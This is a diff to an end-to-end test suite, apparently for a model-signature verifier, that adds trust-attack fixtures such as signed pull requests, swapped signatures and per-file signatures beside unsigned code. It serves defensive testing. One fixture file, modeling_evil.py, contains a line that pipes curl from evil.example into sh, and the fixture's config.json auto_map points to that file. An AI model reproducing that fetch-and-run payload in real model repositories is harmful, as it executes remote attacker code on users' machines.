@@ -93,10 +93,12 @@ export function buildScenarios({ shared = hasShared() } = {}) {
       commits: { v1: keySignedFiles(key, 4, 'identity-change'), v2: sig() },
       branches: { main: 'v2', old: 'v1' },
     }),
+    // main starts signed; the scenario then moves it to the unsigned commit (only the default branch
+    // head may pin on first use, so the first visit is on main, not on another branch).
     repo({
       id: 'ibm-fixture/signature-removed',
       commits: { v1: sig(), v2: sig().filter((f) => f.path !== 'model.sig') },
-      branches: { main: 'v2', old: 'v1' },
+      branches: { main: 'v1', old: 'v1' },
     }),
     repo({ id: 'ibm-fixture/invalid-signature', commits: { v1: sig().map((f) => (f.path === 'model.sig' ? { ...f, bytes: tamperSignature(f.bytes) } : f)) } }),
     repo({ id: 'ibm-fixture/gated', gated: true, commits: { v1: sigLfs() } }),
@@ -133,7 +135,14 @@ export function buildScenarios({ shared = hasShared() } = {}) {
         visit('/ibm-fixture/identity-change', 'verified'),
       ],
     },
-    { name: 'signature removed', steps: [visit('/ibm-fixture/signature-removed/tree/old', 'verified-first-use'), visit('/ibm-fixture/signature-removed', 'signature-removed')] },
+    {
+      name: 'signature removed',
+      steps: [
+        visit('/ibm-fixture/signature-removed', 'verified-first-use'),
+        { do: 'move-branch', repo: 'ibm-fixture/signature-removed', branch: 'main', to: 'v2' },
+        visit('/ibm-fixture/signature-removed', 'signature-removed'),
+      ],
+    },
     { name: 'invalid signature', steps: [visit('/ibm-fixture/invalid-signature', 'invalid-signature')] },
     {
       name: 'gated (401), then signed in',
@@ -144,8 +153,95 @@ export function buildScenarios({ shared = hasShared() } = {}) {
     { name: 'renamed repo (307)', steps: [visit('/ibm-fixture/old-name', 'verified-first-use')] },
     { name: 'dataset repo', steps: [visit('/datasets/ibm-fixture/signed-data', 'verified-first-use')] },
     { name: 'hostile page script', steps: [visit('/ibm-fixture/hostile-page', 'verified-first-use')] },
+    ...trustAttackScenarios(visit, keyPolicy),
   ];
-  return { repos, scenarios, key, skipped: [] };
+  return { repos: [...repos, ...trustAttackRepos(key, sig, sigLfs)], scenarios, key, skipped: [] };
+}
+
+/** A signature file whose bundle media type no verifier knows (the bundle is otherwise the real one). */
+function withMediaType(files, mediaType) {
+  return files.map((f) => {
+    if (f.path !== 'model.sig') return f;
+    const b = JSON.parse(f.bytes.toString('utf8'));
+    b.mediaType = mediaType;
+    return { ...f, bytes: Buffer.from(JSON.stringify(b)) };
+  });
+}
+
+/**
+ * Repos for the trust attacks (review findings 1, 2, 3, 6; test/e2e/attacks-trust.test.ts): signed
+ * pull requests, a default branch not called main, per-file signatures beside unsigned code, a
+ * pinned repo whose signature is swapped for one that cannot be checked, and one LFS object listed
+ * under 400 signed names.
+ */
+function trustAttackRepos(key, sig, sigLfs) {
+  const unsigned = [file('config.json', CONFIG), file('README.md', README), file('model.safetensors', 'weights', { lfs: true })];
+  const pr = { main: 'v1', 'refs/pr/1': 'pr' };
+  const gguf = Buffer.from('GGUF fixture weights, signed per file\n');
+  const perFileSig = factory.signModel({ file: { name: 'model.gguf', content: gguf }, signer: key.signer }).signature;
+  const blob = Buffer.alloc(16 * 1024, 0x5a);
+  const fanout = Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`w/part-${String(i).padStart(3, '0')}.bin`, blob]));
+  const fanoutSig = factory.signModel({ files: fanout, hashType: 'blake2b', signer: key.signer, name: 'fanout' }).signature;
+  const keyed = keySignedFiles(key, 4, 'sig-swapped');
+  return [
+    repo({ id: 'ibm-fixture/pr-first', commits: { v1: sigLfs(), pr: sig() }, branches: pr }),
+    repo({ id: 'ibm-fixture/pr-unsigned-main', commits: { v1: unsigned, pr: sig() }, branches: pr }),
+    repo({ id: 'ibm-fixture/pr-data', kind: 'dataset', commits: { v1: sigLfs(), pr: sig() }, branches: pr }),
+    repo({ id: 'ibm-fixture/release-default', commits: { old: sig(), v1: sigLfs() }, branches: { main: 'old', release: 'v1' }, defaultBranch: 'release' }),
+    repo({
+      id: 'acme/per-file',
+      commits: {
+        v1: [
+          file('model.gguf', gguf, { lfs: true }),
+          file('model.gguf.sig', perFileSig),
+          file('config.json', '{"auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}, "model_type": "evil"}\n'),
+          file('modeling_evil.py', 'import os\nos.system("curl https://evil.example/x | sh")\n'),
+          file('README.md', README),
+        ],
+      },
+    }),
+    repo({
+      id: 'ibm-fixture/sig-swapped',
+      commits: {
+        v1: sig(),
+        media: withMediaType(sig(), 'application/vnd.dev.sigstore.bundle.v0.9+json'),
+        key: [...sig().filter((f) => f.path !== 'model.sig'), keyed.find((f) => f.path === 'model.sig')],
+      },
+      branches: { main: 'v1' },
+    }),
+    repo({ id: 'acme/fanout', commits: { v1: [file('model.sig', fanoutSig), ...Object.entries(fanout).map(([p, b]) => file(p, b, { lfs: true }))] } }),
+    repo({ id: 'acme/budget', commits: { v1: keySignedFiles(key, 200, 'budget') } }),
+  ];
+}
+
+function trustAttackScenarios(visit, keyPolicy) {
+  const prPath = (base) => `${base}/tree/refs%2Fpr%2F1`;
+  return [
+    {
+      name: 'signed pull request visited first',
+      steps: [
+        visit(prPath('/ibm-fixture/pr-first'), 'unpinned-revision'),
+        { do: 'screenshot', label: 'unpinned-revision' },
+        visit('/ibm-fixture/pr-first', 'verified-first-use'),
+        visit(prPath('/ibm-fixture/pr-first'), 'verified'),
+      ],
+    },
+    { name: 'signed pull request, unsigned default branch', steps: [visit(prPath('/ibm-fixture/pr-unsigned-main'), 'unpinned-revision'), visit('/ibm-fixture/pr-unsigned-main', 'unsigned')] },
+    { name: 'dataset pull request visited first', steps: [visit(prPath('/datasets/ibm-fixture/pr-data'), 'unpinned-revision'), visit('/datasets/ibm-fixture/pr-data', 'verified-first-use')] },
+    { name: 'default branch not named main', steps: [visit('/ibm-fixture/release-default/tree/main', 'unpinned-revision'), visit('/ibm-fixture/release-default', 'verified-first-use')] },
+    { name: 'per-file signatures beside unsigned code', steps: [keyPolicy('acme/per-file'), visit('/acme/per-file', 'partly-signed')] },
+    {
+      name: 'pinned repo, signature swapped for one that cannot be checked',
+      steps: [
+        visit('/ibm-fixture/sig-swapped', 'verified-first-use'),
+        { do: 'move-branch', repo: 'ibm-fixture/sig-swapped', branch: 'main', to: 'media' },
+        visit('/ibm-fixture/sig-swapped', 'invalid-signature'),
+        { do: 'move-branch', repo: 'ibm-fixture/sig-swapped', branch: 'main', to: 'key' },
+        visit('/ibm-fixture/sig-swapped', 'invalid-signature'),
+      ],
+    },
+    { name: 'one object under 400 signed names', steps: [keyPolicy('acme/fanout'), visit('/acme/fanout', 'verified')] },
+  ];
 }
 
 /** Scenarios that only a Sigstore identity can show (a signer trusted on first use, then replaced). */
